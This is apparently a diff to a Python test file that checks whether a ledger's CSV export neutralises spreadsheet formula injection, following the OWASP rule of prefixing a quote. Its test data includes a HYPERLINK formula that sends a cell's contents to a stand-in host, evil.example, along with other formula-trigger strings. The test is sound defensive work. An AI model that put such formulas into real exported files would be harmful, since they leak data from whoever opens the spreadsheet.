@@ -49,13 +49,33 @@ def test_csv_round_trip(ledger) -> None:
     assert len(rows) == 3
     assert list(rows[0]) == export_columns(ledger)
     first, _second, third = rows
-    assert first["prompt"] == TRICKY_PROMPT
+    assert first["prompt"] == TRICKY_PROMPT.replace("\x00", "\ufffd")  # Python 3.10's csv cannot write NUL
     assert first["seed"] == "1" and first["cfg_scale"] == "7.0" and first["hires_enabled"] == "True"
     assert first["created_at"] == "2024-06-01T08:00:01+00:00"
     assert first["tab"] == "txt2img" and first["wall_seconds"] == "3.25" and first["run_status"] == "ok"
     assert first["negative_prompt"] == ""  # None
     assert third["tab"] == "img2img" and third["source"] == "import" and third["denoising_strength"] == "0.5"
     assert datetime.fromisoformat(third["created_at"]) == STARTED
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(ledger) -> None:
+    """OWASP's rule: a text cell starting with =, +, -, @, tab or CR gets a leading single quote, so the
+    spreadsheet shows it instead of running it; numbers (and text that is a plain negative number) stay."""
+    images = [ImageRecord(index_in_run=n, created_at=STARTED, seed=-1, prompt=prompt, negative_prompt=prompt,
+                          sampler="@Euler", cfg_scale=-1.5, cost_seconds=-0.25)
+              for n, prompt in enumerate([*FORMULAS, "-1.5"])]
+    ledger.write_runs([RunRecord(tab="txt2img", source="ui", started_at=STARTED, model_name="=1+1", images=images)])
+    out = io.StringIO(newline="")
+    export_images(ledger, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert [row["prompt"] for row in rows] == ["'" + formula for formula in FORMULAS] + ["-1.5"]
+    assert [row["negative_prompt"] for row in rows] == [row["prompt"] for row in rows]
+    assert {row["sampler"] for row in rows} == {"'@Euler"}
+    assert {(row["seed"], row["cfg_scale"], row["cost_seconds"]) for row in rows} == {("-1", "-1.5", "-0.25")}
+    assert all(not value.startswith(("=", "+", "@", "\t", "\r")) for row in rows for value in row.values())
 
 
 def test_json_round_trip(ledger) -> None:
